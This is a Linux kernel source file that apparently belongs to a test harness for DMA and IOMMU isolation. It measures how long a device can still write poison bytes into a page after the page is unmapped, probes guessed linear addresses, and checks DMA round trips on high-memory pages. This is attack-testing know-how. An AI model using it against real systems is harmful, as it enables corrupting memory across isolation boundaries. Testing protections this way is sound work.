// SPDX-License-Identifier: GPL-2.0-only
#include <linux/delay.h>
#include <linux/dma-mapping.h>
#include <linux/mm.h>
#include <linux/sched.h>
#include <linux/slab.h>

#include "pvi_attack.h"

#define OPEN_US	   1000000 /* longer, and it counts as open */
#define MAX_OTHERS 4096u
/* A window that is there is met in one of so many tries, however slowly the guest runs. */
#define TRIES 5

struct window {
	bool revoked;
	unsigned int dmas;
	unsigned int others;
	s64 us;
	unsigned long ticks; /* the same by the clock that the guest's timers go by */
};

/* Maps @memory, has the device use it, unmaps it. False: that did not work. */
static bool use_once(struct attacker *a, u8 *memory, dma_addr_t *ret_addr)
{
	struct device *dev = &a->pdev->dev;
	dma_addr_t addr = dma_map_single(dev, memory, PAGE_SIZE, DMA_FROM_DEVICE);
	bool worked;

	if (dma_mapping_error(dev, addr))
		return false;
	worked = attack_dma(a, ATTACK_C_WRITE, addr, ATTACK_BYTES) == ATTACK_S_OK;
	dma_unmap_single(dev, addr, PAGE_SIZE, DMA_FROM_DEVICE);
	*ret_addr = addr;
	return worked;
}

/* Has a write of the device's any effect? Its buffer is all 0xee. */
static bool reaches(struct attacker *a, u64 addr, u8 *memory)
{
	memset(memory, 0x77, ATTACK_BYTES);
	if (attack_nvme_write(a, addr))
		return false;
	if (READ_ONCE(*memory) != 0x77)
		return true;
	attack_witness_fence();
	return false;
}

/* What a driver does all the time, with another page. */
static bool map_other(struct attacker *a, u8 *other)
{
	struct device *dev = &a->pdev->dev;
	dma_addr_t addr = dma_map_single(dev, other, PAGE_SIZE, DMA_FROM_DEVICE);

	if (dma_mapping_error(dev, addr))
		return false;
	dma_unmap_single(dev, addr, PAGE_SIZE, DMA_FROM_DEVICE);
	return true;
}

static void measure(struct attacker *a, struct window *w, u64 addr, u8 *memory, u8 *others)
{
	unsigned long first = jiffies, ticks;
	ktime_t begin = ktime_get();
	s64 us = 0;

	while (us < OPEN_US && w->others < MAX_OTHERS) {
		/*
		 * Timers run from ksoftirqd now and then (when RCU has raised its softirq from
		 * a task, say), which waits for a task in the kernel to give up the CPU.
		 */
		cond_resched();
		us = ktime_us_delta(ktime_get(), begin);
		ticks = jiffies - first;
		if (!reaches(a, addr, memory)) {
			w->revoked = true;
			return;
		}
		w->us = us;
		w->ticks = ticks;
		w->dmas++;
		if (others && map_other(a, others + (w->others % 64) * PAGE_SIZE))
			w->others++;
	}
}

static void one_window(struct attacker *a, const char *name, u8 *memory, u8 *others)
{
	struct window w = {0};
	u8 poison[ATTACK_BYTES];
	unsigned int i;
	dma_addr_t addr;

	memset(poison, 0xee, sizeof(poison));
	for (i = 0; i < TRIES && !w.dmas; i++) {
		attack_knob(a, "reclaim", "1");
		attack_put_data(a, poison);
		if (!use_once(a, memory, &addr)) {
			seq_printf(a->out, "WINDOW %s failed\n", name);
			return;
		}
		measure(a, &w, addr, memory, others);
	}
	seq_printf(a->out, "WINDOW %s %s dmas=%u us=%lld ticks_ms=%u others=%u\n", name,
		   w.revoked ? "revoked" : "open", w.dmas, w.us, jiffies_to_msecs(w.ticks),
		   w.others);
	attack_knob(a, "reclaim", "1");
	seq_printf(a->out, "WINDOW %s-reclaim %s\n", name,
		   reaches(a, addr, memory) ? "open" : "revoked");
}

#define OTHERS_ORDER 6

void attack_window(struct attacker *a)
{
	u8 *memory = (u8 *)get_zeroed_page(GFP_KERNEL);
	u8 *others = (u8 *)__get_free_pages(GFP_KERNEL, OTHERS_ORDER);

	if (memory && others) {
		one_window(a, "idle", memory, NULL);
		one_window(a, "busy", memory, others);
	} else {
		seq_puts(a->out, "WINDOW idle failed\n");
	}
	free_pages((unsigned long)others, OTHERS_ORDER);
	free_page((unsigned long)memory);
}

#define SWEEP 32u

void attack_sweep(struct attacker *a)
{
	u8 *memory = (u8 *)__get_free_pages(GFP_KERNEL, 1);
	u8 poison[ATTACK_BYTES];
	unsigned int i, reached = 0;
	dma_addr_t addr = 0;

	if (!memory)
		return;
	attack_knob(a, "reclaim", "1");
	memset(poison, 0xee, sizeof(poison));
	attack_put_data(a, poison);
	for (i = 0; i < SWEEP; i++) {
		/* Where it was, and where it would be if all of memory were mapped. */
		reached += use_once(a, memory, &addr) && reaches(a, addr, memory);
		reached += reaches(a, attack_linear(a, memory), memory);
	}
	seq_printf(a->out, "SWEEP reached=%u of=%u\n", reached, 2 * SWEEP);
	free_pages((unsigned long)memory, 1);
}

#define HIGH_PAGES 256u

/* A page above 4 GiB; NULL: there is none. */
static struct page *high_page(void)
{
	struct page *page = alloc_page(GFP_KERNEL);

	if (page && page_to_phys(page) >> 32)
		return page;
	if (page)
		__free_page(page);
	return NULL;
}

/* There and back: the device reads the page, and writes what it has read over it. */
static bool round_trip(struct attacker *a, struct page *page, u32 seed)
{
	struct device *dev = &a->pdev->dev;
	u8 *memory = page_address(page);
	dma_addr_t addr;
	unsigned int i;
	bool good;

	for (i = 0; i < ATTACK_BYTES; i++)
		memory[i] = seed + i * 5;
	addr = dma_map_page(dev, page, 0, PAGE_SIZE, DMA_TO_DEVICE);
	if (dma_mapping_error(dev, addr))
		return false;
	good = addr + PAGE_SIZE - 1 <= dma_get_mask(dev);
	good = good && attack_dma(a, ATTACK_C_READ, addr, ATTACK_BYTES) == ATTACK_S_OK;
	dma_unmap_page(dev, addr, PAGE_SIZE, DMA_TO_DEVICE);
	memset(memory, 0, ATTACK_BYTES);
	addr = dma_map_page(dev, page, 0, PAGE_SIZE, DMA_FROM_DEVICE);
	if (dma_mapping_error(dev, addr))
		return false;
	good = good && attack_dma(a, ATTACK_C_WRITE, addr, ATTACK_BYTES) == ATTACK_S_OK;
	dma_unmap_page(dev, addr, PAGE_SIZE, DMA_FROM_DEVICE);
	for (i = 0; good && i < ATTACK_BYTES; i++)
		good = memory[i] == (u8)(seed + i * 5);
	return good;
}

void attack_high(struct attacker *a)
{
	unsigned int i, pages = 0, wrong = 0;
	struct page *page;

	for (i = 0; i < HIGH_PAGES; i++) {
		page = high_page();
		if (!page)
			continue;
		pages++;
		wrong += !round_trip(a, page, i);
		__free_page(page);
	}
	seq_printf(a->out, "HIGH pages=%u dmas=%u wrong=%u\n", pages, 2 * pages, wrong);
}
